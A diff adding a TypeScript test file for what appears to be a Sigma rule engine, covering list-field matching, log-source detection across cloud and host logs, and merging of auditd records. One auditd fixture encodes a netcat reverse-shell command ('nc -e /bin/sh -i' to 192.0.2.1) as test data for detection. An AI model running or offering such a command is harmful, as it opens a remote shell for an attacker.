@@ -1,0 +1,148 @@
+/** Records of other people's logs, as they write them: which rules of Sigma's folders are for them, and what lists hold. */
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import type { Logsource } from '../../../src/model/log-event.ts';
+import { readLines } from '../parse/reading.ts';
+import { eventWith, ruleOf } from './rule-of.ts';
+
+const AT = '2026-11-20T08:00:00Z';
+
+function eventOf(record: object) {
+  const [event] = readLines('json', [JSON.stringify(record)]).events;
+  assert.ok(event, 'the record is read');
+  return event;
+}
+
+function matches(detection: string, record: object): boolean {
+  const { fields, raw } = eventOf(record);
+  return ruleOf(detection).matches(eventWith(fields, raw));
+}
+
+describe('an element of a list is a value of its own', () => {
+  const group = {
+    eventTime: AT,
+    tags: ['prod', 'Web'],
+    ports: [22, 8080],
+    requestParameters: {
+      ipPermissions: {
+        items: [
+          { ipProtocol: 'tcp', ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }, { cidrIp: '10.0.0.0/8' }] } },
+          { ipProtocol: 'udp' },
+        ],
+      },
+    },
+    target: [{ type: 'User', id: 7 }, { type: 'AppInstance' }],
+  };
+  const rows: readonly (readonly [detection: string, holds: boolean])[] = [
+    ['s: {tags: web}', true],
+    ['s: {tags|startswith: We}', true],
+    ['s: {tags|contains: prod}', true],
+    ['s: {tags: [a, prod]}', true],
+    ["s: {tags: 'prod, Web'}", false],
+    ['s: {tags|re: ^Web$}', true],
+    ['s: {tags|contains|all: [prod, web]}', true],
+    ['s: {tags: null}', false],
+    ['s: {tags|exists: true}', true],
+    ['s: {ports|gt: 8000}', true],
+    ['s: {ports|lt: 22}', false],
+    ['s: {ports: 22}', true],
+    ['s: {target.type: appinstance}', true],
+    ['s: {target.id: 7}', true],
+    ['s: {target.type: Group}', false],
+    ["s: {requestParameters.ipPermissions.items.ipRanges.items.cidrIp: '0.0.0.0/0'}", true],
+    ['s: {requestParameters.ipPermissions.items.ipProtocol: udp}', true],
+  ];
+  for (const [detection, holds] of rows)
+    test(`${detection} ${holds ? 'matches' : 'does not match'}`, () => {
+      assert.equal(matches(`${detection}\ncondition: s`, group), holds);
+    });
+});
+
+describe('what log a record is of', () => {
+  const rows: Readonly<Record<string, readonly [record: object, logsource: Logsource]>> = {
+    Okta: [
+      { published: AT, eventType: 'user.account.lock', actor: { id: '1', alternateId: 'a@example.org' } },
+      { product: 'okta', service: 'okta' },
+    ],
+    'Azure, what administrators did': [
+      {
+        time: AT,
+        operationName: 'MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE',
+        category: 'Administrative',
+      },
+      { product: 'azure', service: 'activitylogs' },
+    ],
+    'Azure, logins': [
+      { time: AT, operationName: 'Sign-in activity', category: 'SignInLogs', resultType: '50126' },
+      { product: 'azure', service: 'signinlogs' },
+    ],
+    'Microsoft 365': [
+      { CreationTime: '2026-11-20T08:00:00', Workload: 'AzureActiveDirectory', Operation: 'Add member.' },
+      { product: 'm365', service: 'audit' },
+    ],
+    "Google's cloud": [
+      {
+        timestamp: AT,
+        protoPayload: { '@type': 'type.googleapis.com/google.cloud.audit.AuditLog', methodName: 'x' },
+      },
+      { product: 'gcp', service: 'gcp.audit' },
+    ],
+    GitHub: [
+      { '@timestamp': Date.parse(AT), _document_id: 'x', action: 'repo.destroy', actor: 'alice' },
+      { product: 'github', service: 'audit' },
+    ],
+    Kubernetes: [
+      { apiVersion: 'audit.k8s.io/v1', requestReceivedTimestamp: AT, verb: 'create' },
+      { category: 'application', product: 'kubernetes', service: 'audit' },
+    ],
+    "Zeek's requests": [
+      {
+        ...{ _path: 'http', ts: Date.parse(AT) / 1000, 'id.orig_h': '192.0.2.1', method: 'GET' },
+        ...{ uri: '/', status_code: 200 },
+      },
+      { category: 'webserver', product: 'zeek', service: 'http' },
+    ],
+    "Zeek's DNS": [
+      { _path: 'dns', ts: Date.parse(AT) / 1000, 'id.orig_h': '192.0.2.1', query: 'example.org' },
+      { category: 'dns', product: 'zeek', service: 'dns' },
+    ],
+    'a process, in the words of ECS': [
+      {
+        ...{ '@timestamp': AT, event: { category: ['process'], type: ['start'] } },
+        ...{ host: { os: { type: 'linux' } }, process: { executable: '/usr/bin/nc' } },
+      },
+      { category: 'process_creation', product: 'linux' },
+    ],
+    'Sysmon for Linux': [
+      { '@timestamp': AT, Channel: 'Linux-Sysmon/Operational', EventID: 1, Image: '/usr/bin/nc' },
+      { category: 'process_creation', product: 'linux', service: 'sysmon' },
+    ],
+    'nothing that is known': [{ time: AT, operationName: 'x', category: 'Own' }, {}],
+  };
+  for (const [name, [record, logsource]] of Object.entries(rows))
+    test(name, () => {
+      const event = eventOf(record);
+      assert.deepEqual(event.logsource, logsource);
+      assert.equal(event.time, Date.parse(AT));
+    });
+});
+
+test('the audit tells a program that begins in two records: rules for processes see it once, with its arguments', () => {
+  const head = (serial: number) => `msg=audit(1795161610.000:${serial}):`;
+  const { events } = readLines('auditd', [
+    `type=SYSCALL ${head(430)} arch=c000003e syscall=59 success=yes ppid=1 pid=2 auid=1000 uid=0 ses=7 comm="nc" exe="/usr/bin/nc.openbsd" key="x"`,
+    `type=EXECVE ${head(430)} argc=4 a0="nc" a1="-e" a2=2F62696E2F7368202D69 a3="192.0.2.1"`,
+    `type=EXECVE ${head(431)} argc=1 a0="id"`,
+  ]);
+  assert.deepEqual(
+    events.map(({ logsource: { category }, fields: { Image, CommandLine, ParentProcessId } }) => [
+      ...[category, Image, CommandLine, ParentProcessId],
+    ]),
+    [
+      [undefined, undefined, undefined, undefined],
+      ['process_creation', '/usr/bin/nc.openbsd', 'nc -e /bin/sh -i 192.0.2.1', '1'],
+      // Another event's program is not taken for its own.
+      ['process_creation', 'id', 'id', undefined],
+    ],
+  );
+});
